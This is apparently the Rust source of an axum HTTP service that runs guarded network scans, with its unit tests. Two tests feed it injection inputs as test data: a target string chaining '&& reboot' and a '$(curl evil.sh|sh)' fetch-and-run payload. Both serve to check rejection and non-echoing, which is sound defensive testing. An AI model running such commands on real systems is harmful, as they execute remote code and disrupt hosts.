// HTTP service for scan requests
//
// Routes:
// - POST /scan     run a guarded scan, reply with the decoded report
// - GET  /health   liveness
// - GET  /metrics  Prometheus text (when metrics are enabled)

use anyhow::{Context, Result};
use axum::{
    extract::{rejection::JsonRejection, State},
    http::StatusCode,
    response::{IntoResponse, Response},
    routing::{get, post},
    Json, Router,
};
use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::sync::Semaphore;
use tower_http::{cors::CorsLayer, trace::TraceLayer};
use tracing::{error, info, warn};
use uuid::Uuid;

use crate::config::Config;
use crate::metrics;
use crate::scanner::{ScanError, ScanResult, Scanner};

/// Body of `POST /scan`
#[derive(Debug, Clone, Deserialize)]
pub struct ScanRequest {
    pub targets: String,

    #[serde(default)]
    pub options: String,

    /// Deadline in seconds
    #[serde(default)]
    pub timeout: Option<u64>,
}

/// Successful `POST /scan` reply
#[derive(Debug, Serialize)]
pub struct ScanResponse {
    pub scan_id: Uuid,
    pub started_at: DateTime<Utc>,
    pub duration_ms: u64,
    pub result: ScanResult,
}

/// Error reply body
#[derive(Debug, Serialize, Deserialize)]
pub struct ErrorBody {
    pub error: String,
    pub message: String,
}

/// Shared handler state
#[derive(Debug, Clone)]
pub struct AppState {
    scanner: Arc<Scanner>,
    permits: Arc<Semaphore>,
    metrics_enabled: bool,
    cors_allow_any: bool,
}

impl AppState {
    pub fn new(scanner: Scanner, max_concurrent_scans: usize) -> Self {
        Self {
            scanner: Arc::new(scanner),
            permits: Arc::new(Semaphore::new(max_concurrent_scans)),
            metrics_enabled: true,
            cors_allow_any: true,
        }
    }

    pub fn with_metrics(mut self, enabled: bool) -> Self {
        self.metrics_enabled = enabled;
        self
    }

    pub fn with_cors_allow_any(mut self, allow: bool) -> Self {
        self.cors_allow_any = allow;
        self
    }
}

/// HTTP status for each scan failure
pub fn status_for(err: &ScanError) -> StatusCode {
    match err {
        ScanError::InvalidInput => StatusCode::BAD_REQUEST,
        ScanError::TimedOut(_) => StatusCode::GATEWAY_TIMEOUT,
        ScanError::ToolNotFound(_) => StatusCode::SERVICE_UNAVAILABLE,
        ScanError::ExecutionFailed(_) | ScanError::ParseFailed(_) => StatusCode::BAD_GATEWAY,
    }
}

fn error_response(status: StatusCode, error: &str, message: String) -> Response {
    let body = ErrorBody {
        error: error.to_string(),
        message,
    };
    (status, Json(body)).into_response()
}

fn scan_error_response(err: &ScanError) -> Response {
    error_response(status_for(err), err.kind(), err.to_string())
}

/// Reject a request before it reaches the scanner.
///
/// Replies exactly as a validation failure would and counts it the same way.
fn reject_request(received: Instant) -> Response {
    let err = ScanError::InvalidInput;
    metrics::record_scan(err.kind(), received.elapsed());
    scan_error_response(&err)
}

/// Build the application router
pub fn router(state: AppState) -> Router {
    let mut app = Router::new()
        .route("/scan", post(scan_handler))
        .route("/health", get(health_handler));

    if state.metrics_enabled {
        app = app.route("/metrics", get(metrics_handler));
    }

    let cors_allow_any = state.cors_allow_any;
    let app = app.with_state(state).layer(TraceLayer::new_for_http());

    if cors_allow_any {
        app.layer(CorsLayer::permissive())
    } else {
        app
    }
}

/// Start the HTTP service and run until Ctrl-C
pub async fn serve(config: &Config) -> Result<()> {
    if config.metrics.enabled {
        metrics::init().context("Failed to initialize metrics")?;
    }

    let scanner = Scanner::from_config(&config.scanner).context("Invalid scanner configuration")?;
    let state = AppState::new(scanner, config.server.max_concurrent_scans)
        .with_metrics(config.metrics.enabled)
        .with_cors_allow_any(config.server.cors_allow_any);
    let app = router(state);

    let addr = format!("{}:{}", config.server.bind, config.server.port);
    let listener = tokio::net::TcpListener::bind(&addr)
        .await
        .with_context(|| format!("Failed to bind {}", addr))?;

    info!(
        addr = %addr,
        binary = %config.scanner.binary,
        max_concurrent_scans = config.server.max_concurrent_scans,
        "Starting scan service"
    );

    axum::serve(listener, app)
        .with_graceful_shutdown(shutdown_signal())
        .await
        .context("Scan service error")?;

    info!("Scan service stopped");
    Ok(())
}

async fn shutdown_signal() {
    if let Err(e) = tokio::signal::ctrl_c().await {
        error!("Failed to listen for shutdown signal: {}", e);
        std::future::pending::<()>().await;
    }
}

async fn scan_handler(
    State(state): State<AppState>,
    payload: Result<Json<ScanRequest>, JsonRejection>,
) -> Response {
    let received = Instant::now();
    let request = match payload {
        Ok(Json(request)) => request,
        Err(rejection) => {
            warn!(status = %rejection.status(), "Malformed scan request: {}", rejection.body_text());
            return reject_request(received);
        }
    };

    if request.timeout == Some(0) {
        warn!("Rejected scan request with zero timeout");
        return reject_request(received);
    }

    // Waits while max_concurrent_scans scans are in flight
    let _permit = match state.permits.acquire().await {
        Ok(permit) => permit,
        Err(_) => {
            return error_response(
                StatusCode::SERVICE_UNAVAILABLE,
                "unavailable",
                "Scan service is shutting down".to_string(),
            )
        }
    };

    let scan_id = Uuid::new_v4();
    let started_at = Utc::now();
    let started = Instant::now();

    let result = state
        .scanner
        .scan_with_id(
            scan_id,
            &request.targets,
            &request.options,
            request.timeout.map(Duration::from_secs),
        )
        .await;

    match result {
        Ok(result) => {
            let response = ScanResponse {
                scan_id,
                started_at,
                duration_ms: started.elapsed().as_millis() as u64,
                result,
            };
            (StatusCode::OK, Json(response)).into_response()
        }
        Err(e) => scan_error_response(&e),
    }
}

/// Metrics endpoint handler
async fn metrics_handler() -> Response {
    match metrics::gather_metrics() {
        Ok(metrics_text) => (StatusCode::OK, metrics_text).into_response(),
        Err(e) => {
            error!("Failed to gather metrics: {}", e);
            (
                StatusCode::INTERNAL_SERVER_ERROR,
                format!("Error gathering metrics: {}", e),
            )
                .into_response()
        }
    }
}

/// Health check endpoint
async fn health_handler() -> impl IntoResponse {
    StatusCode::OK
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner::testutil::{fake_scanner, ARGS_AS_XML};
    use axum::body::Body;
    use axum::http::{header, Method, Request};
    use http_body_util::BodyExt;
    use serde_json::{json, Value};
    use tower::ServiceExt;

    fn app_with(scanner: Scanner) -> Router {
        router(AppState::new(scanner, 4))
    }

    fn post_scan(body: Value) -> Request<Body> {
        Request::builder()
            .method(Method::POST)
            .uri("/scan")
            .header(header::CONTENT_TYPE, "application/json")
            .body(Body::from(body.to_string()))
            .unwrap()
    }

    async fn json_body(response: Response) -> Value {
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        serde_json::from_slice(&bytes).unwrap()
    }

    #[test]
    fn test_status_mapping() {
        assert_eq!(status_for(&ScanError::InvalidInput), StatusCode::BAD_REQUEST);
        assert_eq!(
            status_for(&ScanError::TimedOut(Duration::from_secs(1))),
            StatusCode::GATEWAY_TIMEOUT
        );
        assert_eq!(
            status_for(&ScanError::ToolNotFound("nmap".into())),
            StatusCode::SERVICE_UNAVAILABLE
        );
        assert_eq!(
            status_for(&ScanError::ExecutionFailed("x".into())),
            StatusCode::BAD_GATEWAY
        );
        assert_eq!(
            status_for(&ScanError::ParseFailed("x".into())),
            StatusCode::BAD_GATEWAY
        );
    }

    #[tokio::test]
    async fn test_health() {
        let response = app_with(Scanner::default())
            .oneshot(Request::builder().uri("/health").body(Body::empty()).unwrap())
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
    }

    #[tokio::test]
    async fn test_metrics_endpoint() {
        metrics::init().unwrap();
        let response = app_with(Scanner::default())
            .oneshot(Request::builder().uri("/metrics").body(Body::empty()).unwrap())
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);

        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        let text = String::from_utf8(bytes.to_vec()).unwrap();
        assert!(text.contains("scanguard_scans_total"));
    }

    #[tokio::test]
    async fn test_metrics_disabled() {
        let app = router(AppState::new(Scanner::default(), 1).with_metrics(false));
        let response = app
            .oneshot(Request::builder().uri("/metrics").body(Body::empty()).unwrap())
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::NOT_FOUND);
    }

    #[tokio::test]
    async fn test_scan_success() {
        let (_dir, path) = fake_scanner(ARGS_AS_XML);
        let app = app_with(Scanner::default().with_binary(path.to_string_lossy()));

        let response = app
            .oneshot(post_scan(json!({"targets": "10.0.0.1", "options": "-sV -p 80", "timeout": 10})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);

        let body = json_body(response).await;
        assert!(Uuid::parse_str(body["scan_id"].as_str().unwrap()).is_ok());
        assert!(body["started_at"].is_string());
        assert!(body["duration_ms"].is_u64());
        assert_eq!(
            body["result"]["args"]["arg"],
            json!(["-sV", "-p", "80", "-oX", "-", "10.0.0.1"])
        );
    }

    #[tokio::test]
    async fn test_scan_options_default_to_empty() {
        let (_dir, path) = fake_scanner(ARGS_AS_XML);
        let app = app_with(Scanner::default().with_binary(path.to_string_lossy()));

        let response = app.oneshot(post_scan(json!({"targets": "::1"}))).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);

        let body = json_body(response).await;
        assert_eq!(body["result"]["args"]["arg"], json!(["-oX", "-", "::1"]));
    }

    #[tokio::test]
    async fn test_scan_invalid_input() {
        let app = app_with(Scanner::default());
        let response = app
            .oneshot(post_scan(json!({"targets": "10.0.0.1 && reboot", "options": "-sV"})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);

        let body = json_body(response).await;
        assert_eq!(body["error"], "invalid_input");
        assert!(!body["message"].as_str().unwrap().contains("reboot"));
    }

    #[tokio::test]
    async fn test_scan_zero_timeout_rejected() {
        let app = app_with(Scanner::default().with_binary("/nonexistent/scanguard/nmap"));
        let response = app
            .oneshot(post_scan(json!({"targets": "10.0.0.1", "timeout": 0})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        assert_eq!(json_body(response).await["error"], "invalid_input");
    }

    #[tokio::test]
    async fn test_scan_malformed_body() {
        let app = app_with(Scanner::default());
        let response = app
            .oneshot(post_scan(json!({"options": "-sV"})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        assert_eq!(json_body(response).await["error"], "invalid_input");
    }

    #[tokio::test]
    async fn test_malformed_body_does_not_echo_input() {
        let payload = "$(curl evil.sh|sh)";
        let app = app_with(Scanner::default());
        let response = app
            .oneshot(post_scan(json!({"targets": "10.0.0.1", "timeout": payload})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);

        let body = json_body(response).await;
        assert_eq!(body["error"], "invalid_input");
        assert_eq!(body["message"], ScanError::InvalidInput.to_string());
        assert!(!body.to_string().contains("curl evil.sh"));
    }

    #[tokio::test]
    async fn test_early_rejections_are_counted() {
        let counter = metrics::SCANS_TOTAL.with_label_values(&["invalid_input"]);

        let before = counter.get();
        let response = app_with(Scanner::default())
            .oneshot(post_scan(json!({"targets": 42})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        let after_malformed = counter.get();
        assert!(after_malformed > before);

        let response = app_with(Scanner::default())
            .oneshot(post_scan(json!({"targets": "10.0.0.1", "timeout": 0})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        assert!(counter.get() > after_malformed);
    }

    #[tokio::test]
    async fn test_scan_tool_not_found() {
        let app = app_with(Scanner::default().with_binary("/nonexistent/scanguard/nmap"));
        let response = app
            .oneshot(post_scan(json!({"targets": "10.0.0.1"})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
        assert_eq!(json_body(response).await["error"], "tool_not_found");
    }

    #[tokio::test]
    async fn test_scan_execution_failed() {
        let (_dir, path) = fake_scanner("echo 'QUITTING!' >&2\nexit 1");
        let app = app_with(Scanner::default().with_binary(path.to_string_lossy()));

        let response = app
            .oneshot(post_scan(json!({"targets": "10.0.0.1"})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::BAD_GATEWAY);

        let body = json_body(response).await;
        assert_eq!(body["error"], "execution_failed");
        assert!(body["message"].as_str().unwrap().contains("QUITTING!"));
    }

    #[tokio::test]
    async fn test_scan_timed_out() {
        let (_dir, path) = fake_scanner("exec sleep 30");
        let app = app_with(Scanner::default().with_binary(path.to_string_lossy()));

        let response = app
            .oneshot(post_scan(json!({"targets": "10.0.0.1", "timeout": 1})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::GATEWAY_TIMEOUT);
        assert_eq!(json_body(response).await["error"], "timed_out");
    }

    #[tokio::test]
    async fn test_cors_headers() {
        let app = app_with(Scanner::default());
        let request = Request::builder()
            .uri("/health")
            .header(header::ORIGIN, "http://localhost:3000")
            .body(Body::empty())
            .unwrap();

        let response = app.oneshot(request).await.unwrap();
        assert!(response
            .headers()
            .contains_key(header::ACCESS_CONTROL_ALLOW_ORIGIN));
    }

    #[tokio::test]
    async fn test_cors_disabled() {
        let app = router(AppState::new(Scanner::default(), 1).with_cors_allow_any(false));
        let request = Request::builder()
            .uri("/health")
            .header(header::ORIGIN, "http://localhost:3000")
            .body(Body::empty())
            .unwrap();

        let response = app.oneshot(request).await.unwrap();
        assert!(!response
            .headers()
            .contains_key(header::ACCESS_CONTROL_ALLOW_ORIGIN));
    }
}
